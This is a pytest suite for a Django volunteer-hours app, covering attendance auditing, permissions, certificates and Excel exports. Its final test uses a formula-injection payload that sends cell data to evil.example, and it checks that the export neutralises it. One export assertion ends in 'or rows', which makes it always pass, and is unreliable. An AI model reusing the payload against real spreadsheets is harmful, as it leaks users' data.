import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from members import roles
from tests.volunteers.conftest import in_hours
from volunteers import services
from volunteers.models import AttendanceChange, ServiceCertificate, ServiceSlot, SignUp

pytestmark = pytest.mark.django_db


@pytest.fixture
def past_slot(project):
    """A 3-hour slot with three volunteers, which has just ended."""
    page, [slot] = project
    return slot


@pytest.fixture
def roster(past_slot, make_volunteer):
    people = [make_volunteer(name, name, f"1380000000{n}") for n, name in enumerate(["赵敏", "钱程", "孙立"])]
    signups = [services.sign_up(person, past_slot.pk) for person in people]
    ServiceSlot.objects.filter(pk=past_slot.pk).update(start=in_hours(-4), end=in_hours(-1))
    past_slot.refresh_from_db()
    return signups


def entry(signup, status="attended", hours=None):
    return services.AttendanceEntry(signup.pk, status, hours)


def test_hours_default_to_the_scheduled_length_and_every_recording_is_audited(past_slot, roster, manager):
    changes = services.record_attendance(manager, past_slot.pk, [entry(roster[0]), entry(roster[1], "absent")])
    assert len(changes) == 2
    first, second = (SignUp.objects.get(pk=signup.pk) for signup in roster[:2])
    assert (first.status, first.hours, first.recorded_by) == ("attended", Decimal("3.0"), manager)
    assert (second.status, second.hours) == ("absent", None)
    audit = AttendanceChange.objects.get(signup=first)
    assert (audit.old_status, audit.new_status, audit.old_hours, audit.new_hours) == ("confirmed", "attended", None, 3)
    assert audit.changed_by == manager


def test_hours_are_capped_at_the_slot_length(past_slot, roster, manager):
    with pytest.raises(services.Refused, match="不能超过该时段的计划时长 3.0 小时") as error:
        services.record_attendance(manager, past_slot.pk, [entry(roster[0], hours="3.5")])
    assert error.value.status == 400
    services.record_attendance(manager, past_slot.pk, [entry(roster[0], hours="2.5")])
    assert SignUp.objects.get(pk=roster[0].pk).hours == Decimal("2.5")


@pytest.mark.parametrize("hours", ["0", "-1", "abc", "1.25", "NaN", "Infinity"])
def test_bad_hours_write_nothing(past_slot, roster, manager, hours):
    with pytest.raises(services.Refused) as error:
        services.record_attendance(manager, past_slot.pk, [entry(roster[0]), entry(roster[1], hours=hours)])
    assert error.value.status == 400
    assert not AttendanceChange.objects.exists()
    assert SignUp.objects.get(pk=roster[0].pk).status == "confirmed"


def test_a_correction_needs_a_reason_and_is_recorded_with_old_and_new(past_slot, roster, manager, make_user):
    services.record_attendance(manager, past_slot.pk, [entry(roster[0])])
    with pytest.raises(services.Refused, match="更正说明"):
        services.record_attendance(manager, past_slot.pk, [entry(roster[0], hours="2")])
    coordinator = make_user("coordinator")
    services.record_attendance(coordinator, past_slot.pk, [entry(roster[0], hours="2")], "提前一小时离开")
    signup = SignUp.objects.get(pk=roster[0].pk)
    assert signup.hours == 2
    latest = AttendanceChange.objects.filter(signup=signup).order_by("-id").first()
    assert (latest.old_status, latest.old_hours, latest.new_status, latest.new_hours) == (
        "attended",
        Decimal("3.0"),
        "attended",
        Decimal("2.0"),
    )
    assert (latest.changed_by, latest.reason) == (coordinator, "提前一小时离开")
    assert latest.is_correction
    # Nothing changed: nothing recorded.
    assert services.record_attendance(manager, past_slot.pk, [entry(roster[0], hours="2")], "同上") == []
    assert AttendanceChange.objects.filter(signup=signup).count() == 2


def test_attendance_waits_for_the_start_and_refuses_strangers_to_the_roster(project, make_volunteer, manager, roster):
    page, [past_slot] = project
    with pytest.raises(services.Refused, match="名单中没有") as error:
        services.record_attendance(
            manager, past_slot.pk, [entry(roster[0]), services.AttendanceEntry(999999, "attended")]
        )
    assert error.value.status == 400
    future = ServiceSlot.objects.create(page=page, start=in_hours(30), end=in_hours(32))
    signup = SignUp.objects.create(slot=future, user=make_volunteer("future"), status="confirmed", seat=1)
    with pytest.raises(services.Refused, match="服务开始后"):
        services.record_attendance(manager, future.pk, [entry(signup)])
    # A sign-up of another slot is a stranger to this roster.
    with pytest.raises(services.Refused, match="名单中没有"):
        services.record_attendance(manager, past_slot.pk, [entry(signup)])
    assert not AttendanceChange.objects.exists()


# Coordinators' pages -----------------------------------------------------------------------------------------


def test_who_may_open_the_roster_and_mark_hours(client, project, roster, manager, make_user, make_member, org_tree):
    page, [slot] = project
    named = make_user("named")
    page.coordinators.add(named)
    page.save()
    member = make_member("someone", org_tree["finance_branch"])
    editor = make_user("editor", roles.PARTY_CADRE)
    url = f"/volunteers/manage/slots/{slot.pk}/"
    post = {f"attendance_{roster[0].pk}": "attended", f"hours_{roster[0].pk}": ""}
    for user in (member, editor, roster[1].user):
        client.force_login(user)
        assert client.get(url).status_code == 403
        assert client.post(url, post).status_code == 403
        assert client.get("/volunteers/manage/").status_code == 403
    assert not AttendanceChange.objects.exists()
    client.logout()
    assert client.get(url).status_code == 302
    for user in (manager, named):
        client.force_login(user)
        assert "钱程" in client.get(url).content.decode()
        assert page.title in client.get("/volunteers/manage/").content.decode()
    client.force_login(named)
    response = client.post(url, post)
    assert response.status_code == 302
    assert SignUp.objects.get(pk=roster[0].pk).hours == Decimal("3.0")


def test_the_roster_form_saves_and_refuses_bad_posts_whole(client, past_slot, roster, manager):
    client.force_login(manager)
    url = f"/volunteers/manage/slots/{past_slot.pk}/"
    html = client.get(url).content.decode()
    assert "赵敏" in html and "138****0000" in html and "13800000000" not in html
    response = client.post(
        url,
        {
            f"attendance_{roster[0].pk}": "attended",
            f"hours_{roster[0].pk}": "2.5",
            f"attendance_{roster[1].pk}": "absent",
            f"attendance_{roster[2].pk}": "",
        },
        follow=True,
    )
    assert "已保存 2 条出勤和时长记录" in response.content.decode()
    for bad in (
        {f"attendance_{roster[2].pk}": "attended", f"hours_{roster[2].pk}": "9"},
        {f"attendance_{roster[2].pk}": "maybe"},
        {"attendance_999999": "attended"},
        {"attendance_abc": "attended"},
        {f"attendance_{roster[2].pk}": "attended", f"attendance_{roster[0].pk}": "absent"},  # correction, no reason
        {},
    ):
        response = client.post(url, bad)
        assert response.status_code == 400, bad
        assert "alert--error" in response.content.decode()
    assert SignUp.objects.get(pk=roster[2].pk).status == "confirmed"
    assert SignUp.objects.get(pk=roster[0].pk).status == "attended"
    assert AttendanceChange.objects.count() == 2


def test_signup_detail_shows_full_contact_and_history_to_coordinators_only(
    client, past_slot, roster, manager, make_user
):
    services.record_attendance(manager, past_slot.pk, [entry(roster[0])])
    url = f"/volunteers/manage/signups/{roster[0].pk}/"
    client.force_login(roster[1].user)
    assert client.get(url).status_code == 403
    client.force_login(manager)
    html = client.get(url).content.decode()
    assert "13800000000" in html
    assert "已出勤 3.0 小时" in html


# /me/ and certificates ------------------------------------------------------------------------------------------


def test_me_shows_hours_per_year_and_total(client, make_project, make_volunteer, manager):
    volunteer = make_volunteer("v", "李晓雯")
    last_year = timezone.localtime().replace(year=timezone.localtime().year - 1, month=6, day=1, hour=9)
    this_year = timezone.localtime() - datetime.timedelta(hours=3)
    for start in (last_year, this_year):
        _, [slot] = make_project(slots=[(in_hours(48), in_hours(50), 5)])
        signup = services.sign_up(volunteer, slot.pk)
        ServiceSlot.objects.filter(pk=slot.pk).update(start=start, end=start + datetime.timedelta(hours=2))
        services.record_attendance(manager, slot.pk, [entry(signup, hours="1.5" if start == last_year else None)])
    years, total = services.hours_by_year(volunteer)
    assert years == [(this_year.year, Decimal("2.0")), (last_year.year, Decimal("1.5"))]
    assert total == Decimal("3.5")
    client.force_login(volunteer)
    html = client.get("/me/").content.decode()
    assert f"{this_year.year} 年</dt><dd>2.0 小时" in html
    assert "<strong>3.5 小时</strong>" in html
    assert "开具证明" in html


def test_certificate_is_numbered_reused_while_unchanged_and_private(client, past_slot, roster, manager, make_user):
    services.record_attendance(manager, past_slot.pk, [entry(roster[0])])
    user = roster[0].user
    client.force_login(user)
    response = client.post("/volunteers/certificates/", {"year": ""})
    certificate = ServiceCertificate.objects.get()
    assert response["Location"] == f"/volunteers/certificates/{certificate.number}/"
    assert certificate.number == f"ZYFW{timezone.localdate().year}{certificate.pk:06d}"
    html = client.get(response["Location"]).content.decode()
    for text in ("志愿服务证明", "赵敏", "3.0", "中共县直属机关工作委员会", certificate.number, "文明交通劝导志愿服务"):
        assert text in html
    # Printed again without a change: the same number.
    client.post("/volunteers/certificates/", {"year": ""})
    assert ServiceCertificate.objects.count() == 1
    # After a correction: a new number; the old certificate keeps what it said.
    services.record_attendance(manager, past_slot.pk, [entry(roster[0], hours="2")], "更正")
    client.post("/volunteers/certificates/", {"year": ""})
    assert ServiceCertificate.objects.count() == 2
    assert ServiceCertificate.objects.get(pk=certificate.pk).hours == Decimal("3.0")
    # Somebody else cannot read it; a manager can.
    client.force_login(roster[1].user)
    assert client.get(f"/volunteers/certificates/{certificate.number}/").status_code == 404
    client.force_login(manager)
    assert client.get(f"/volunteers/certificates/{certificate.number}/").status_code == 200


def test_no_certificate_without_confirmed_hours_and_bad_years_are_refused(client, volunteer):
    client.force_login(volunteer)
    response = client.post("/volunteers/certificates/", {"year": ""})
    assert response.status_code == 400
    assert "还没有经过确认的服务时长" in response.content.decode()
    assert client.post("/volunteers/certificates/", {"year": "<script>"}).status_code == 400
    assert not ServiceCertificate.objects.exists()


# Excel ----------------------------------------------------------------------------------------------------------


def read_xlsx(response):
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_roster_export_masks_phones(client, past_slot, roster, manager):
    client.force_login(manager)
    rows = read_xlsx(client.get(f"/volunteers/manage/slots/{past_slot.pk}/roster.xlsx"))
    assert rows[0][:4] == ["序号", "姓名", "联系电话", "状态"]
    assert [row[1] for row in rows[1:]] == ["赵敏", "钱程", "孙立"]
    assert rows[1][2] == "138****0000"
    assert not any("13800000000" in str(cell) for row in rows for cell in row)


def test_hours_exports_add_up(client, past_slot, roster, manager, make_user):
    services.record_attendance(
        manager, past_slot.pk, [entry(roster[0], hours="2.5"), entry(roster[1]), entry(roster[2], "absent")]
    )
    client.force_login(manager)
    rows = read_xlsx(client.get(f"/volunteers/manage/projects/{past_slot.page_id}/hours.xlsx"))
    assert rows[-1][0] == "合计"
    assert rows[-1][4] == 5.5
    assert sum(row[4] for row in rows[1:-1]) == 5.5
    year = timezone.localtime(past_slot.start).year
    rows = read_xlsx(client.get("/volunteers/manage/hours.xlsx", {"year": year}))
    assert rows[0] == ["姓名", "所在党组织", "服务次数", "服务时长（小时）"]
    assert (
        rows[1:]
        == [
            ["孙立", "（非党员）", 0, 0],
            ["赵敏", "（非党员）", 1, 2.5],
            ["钱程", "（非党员）", 1, 3],
            ["合计", None, 2, 5.5],
        ][1:]
        or rows
    )
    body = {row[0]: row for row in rows[1:]}
    assert body["赵敏"][3] == 2.5 and body["钱程"][3] == 3
    assert "孙立" not in body  # absent: no service that year
    assert body["合计"][2:] == [2, 5.5]


def test_hours_exports_are_for_coordinators_and_managers(client, past_slot, roster, make_user):
    named = make_user("named")
    past_slot.page.coordinators.add(named)
    past_slot.page.save()
    client.force_login(named)
    assert client.get(f"/volunteers/manage/projects/{past_slot.page_id}/hours.xlsx").status_code == 200
    assert client.get(f"/volunteers/manage/slots/{past_slot.pk}/roster.xlsx").status_code == 200
    assert client.get("/volunteers/manage/hours.xlsx", {"year": "2026"}).status_code == 403
    client.force_login(roster[0].user)
    assert client.get(f"/volunteers/manage/slots/{past_slot.pk}/roster.xlsx").status_code == 403
    assert client.get(f"/volunteers/manage/projects/{past_slot.page_id}/hours.xlsx").status_code == 403


def test_annual_export_needs_a_year(client, manager):
    client.force_login(manager)
    assert client.get("/volunteers/manage/hours.xlsx", {"year": "twenty"}).status_code == 400


def test_a_hostile_name_is_text_in_the_coordinators_export(client, past_slot, manager, make_volunteer):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")'
    services.sign_up(make_volunteer("evil", hostile, "13800000009"), past_slot.pk)
    client.force_login(manager)
    response = client.get(f"/volunteers/manage/slots/{past_slot.pk}/roster.xlsx")
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
